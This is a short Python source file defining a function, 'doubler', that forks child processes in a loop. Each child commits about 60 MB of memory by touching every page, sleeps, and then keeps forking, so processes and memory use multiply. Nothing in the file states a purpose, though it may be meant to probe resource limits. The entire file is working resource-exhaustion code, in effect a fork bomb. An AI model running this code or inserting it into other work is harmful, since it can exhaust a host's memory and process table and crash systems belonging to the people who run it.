import os
import time

def doubler(n):
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(60 << 20)
            for place in range(0, len(held), 4096):
                held[place] = 1
            time.sleep(60)
    time.sleep(60)
